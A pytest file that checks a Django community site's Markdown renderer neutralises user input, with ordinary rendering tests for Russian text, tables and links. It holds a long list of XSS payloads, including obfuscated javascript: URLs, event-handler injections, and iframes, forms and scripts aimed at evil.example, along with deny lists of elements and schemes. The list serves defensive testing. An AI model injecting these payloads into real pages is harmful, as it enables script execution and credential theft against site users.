"""The one Markdown renderer: what members write can never run in a reader's page."""

import random
import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from community.markdown import MAX_LENGTH, render_markdown

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "svg", "object", "embed", "form", "style", "math",
    "link", "meta", "base", "input", "button", "textarea", "frame", "frameset",
}  # fmt: skip
FORBIDDEN_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background"}


# What a browser's URL parser (WHATWG) ignores: C0 controls and spaces at either
# end, tabs and newlines anywhere; so "jav&#x09;ascript:" is a javascript: URL.
_C0_AND_SPACE = "".join(chr(code) for code in range(0x21))
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def url_as_browser_reads(url: str) -> str:
    return _TAB_OR_NEWLINE.sub("", url.strip(_C0_AND_SPACE)).lower()


class _Elements(HTMLParser):
    """Every start tag of a fragment, as (name, {attribute: value})."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_inert(html: str) -> None:
    """No element, attribute or URL in `html` can run script or restyle the page."""
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_ELEMENTS, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            assert name != "style", html
            if name in URL_ATTRIBUTES:
                # html.parser has already decoded character references.
                url = url_as_browser_reads(value)
                assert not url.startswith(FORBIDDEN_SCHEMES), html
            if name == "class":
                assert tag == "code", html
                assert re.fullmatch(r"language-[\w+#.-]+", value, re.ASCII), html


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/svg+xml;utf8,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="color:red">x</p>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<scr<script>ipt>alert(1)</script>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    "<<img src=x onerror=alert(1)>>",
    "[x](javascript&colon;alert(1))",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<img src="https://example.com/a.png" onload="alert(1)" alt="x">',
    '<code class="evil">x</code>',
    '<pre><code class="language-python position-fixed top-0 w-100">x</code></pre>',
    '<p class="position-fixed">x</p>',
    "<!-- <script>alert(1)</script> -->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_makes_payload_inert(payload):
    html = render_markdown(payload)

    assert_inert(html)
    assert "<script" not in html.lower()


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "<svg onload=alert(1)>",
    ],
)
def test_render_markdown_payload_inside_markdown_is_inert(payload):
    html = render_markdown(f"# Заголовок\n\n* пункт {payload}\n\n> {payload}\n")

    assert_inert(html)


def test_render_markdown_random_mixtures_of_payloads_stay_inert():
    # A seeded fuzz: fragments of the payloads glued together in random order.
    generator = random.Random(2026)
    fragments = [*XSS_PAYLOADS, "**", "\n\n", "> ", "- ", "<", ">", '"', "'", "`"]
    for _round in range(500):
        text = "".join(generator.choices(fragments, k=generator.randint(2, 8)))
        assert_inert(render_markdown(text))


def test_render_markdown_fenced_code_keeps_language_class():
    html = render_markdown("```python\nprint('привет')\n```")

    assert ("code", {"class": "language-python"}) in elements(html)
    assert "<pre>" in html


def test_render_markdown_code_drops_class_that_is_not_one_language_token():
    for source in (
        '<code class="evil">x</code>',
        '<code class="language-python d-none">x</code>',
    ):
        [attrs] = [a for tag, a in elements(render_markdown(source)) if tag == "code"]
        assert "class" not in attrs, source


def test_render_markdown_headings():
    html = render_markdown("# Первый\n\n## Второй\n\n### Третий")

    assert [tag for tag, _ in elements(html)] == ["h1", "h2", "h3"]
    assert "<h1>Первый</h1>" in html


def test_render_markdown_emphasis():
    html = render_markdown("*курсив* и **жирный** и ~~нет~~")

    assert "<em>курсив</em>" in html
    assert "<strong>жирный</strong>" in html


def test_render_markdown_ordered_and_unordered_lists():
    html = render_markdown("1. раз\n2. два\n\n- три\n- четыре\n")

    tags = [tag for tag, _ in elements(html)]
    assert tags.count("ol") == 1
    assert tags.count("ul") == 1
    assert tags.count("li") == 4


def test_render_markdown_ordered_list_keeps_start():
    html = render_markdown("3. три\n4. четыре\n")

    assert ("ol", {"start": "3"}) in elements(html)


def test_render_markdown_tables():
    html = render_markdown("| Класс | Учеников |\n|---|---:|\n| 5А | 28 |\n")

    tags = [tag for tag, _ in elements(html)]
    for tag in ("table", "thead", "tbody", "tr", "th", "td"):
        assert tag in tags
    assert "<td>5А</td>" in html


def test_render_markdown_inline_code_is_escaped_text():
    html = render_markdown("Пишите `<b>` в коде")

    assert "<code>&lt;b&gt;</code>" in html


def test_render_markdown_links_get_nofollow_and_ugc():
    html = render_markdown("[Минпросвещения](https://edu.gov.ru/)")

    [(tag, attrs)] = elements(html)[1:]
    assert tag == "a"
    assert attrs["href"] == "https://edu.gov.ru/"
    rel = attrs["rel"].split()
    assert "nofollow" in rel
    assert "ugc" in rel
    assert "noopener" in rel


def test_render_markdown_mailto_link_is_kept():
    html = render_markdown("[почта](mailto:teacher@school.example)")

    [attrs] = [a for tag, a in elements(html) if tag == "a"]
    assert attrs["href"] == "mailto:teacher@school.example"


def test_render_markdown_images_keep_src_and_alt():
    html = render_markdown("![Схема урока](/media/markdownx/abc.png)")

    [attrs] = [a for tag, a in elements(html) if tag == "img"]
    assert attrs == {"src": "/media/markdownx/abc.png", "alt": "Схема урока"}


def test_render_markdown_blockquote():
    html = render_markdown("> Учитель — это звучит гордо")

    assert "<blockquote>" in html
    assert "Учитель — это звучит гордо" in html


def test_render_markdown_russian_text_survives_unchanged():
    text = "Ёжик в тумане: съешь же ещё этих мягких французских булок"

    assert render_markdown(text) == f"<p>{text}</p>"


def test_render_markdown_drops_nul_bytes():
    assert render_markdown("до\x00после") == "<p>допосле</p>"


def test_render_markdown_empty_or_none_is_empty():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_render_markdown_truncates_at_max_length():
    html = render_markdown("я" * (MAX_LENGTH + 50))

    assert html.count("я") == MAX_LENGTH


def test_markdown_filter_renders_through_render_markdown():
    text = "**Важно** <script>alert(1)</script> [x](javascript:alert(1))"

    html = Template("{% load community %}{{ text|markdown }}").render(
        Context({"text": text})
    )

    assert html == render_markdown(text)
    assert "<strong>Важно</strong>" in html
    assert_inert(html)
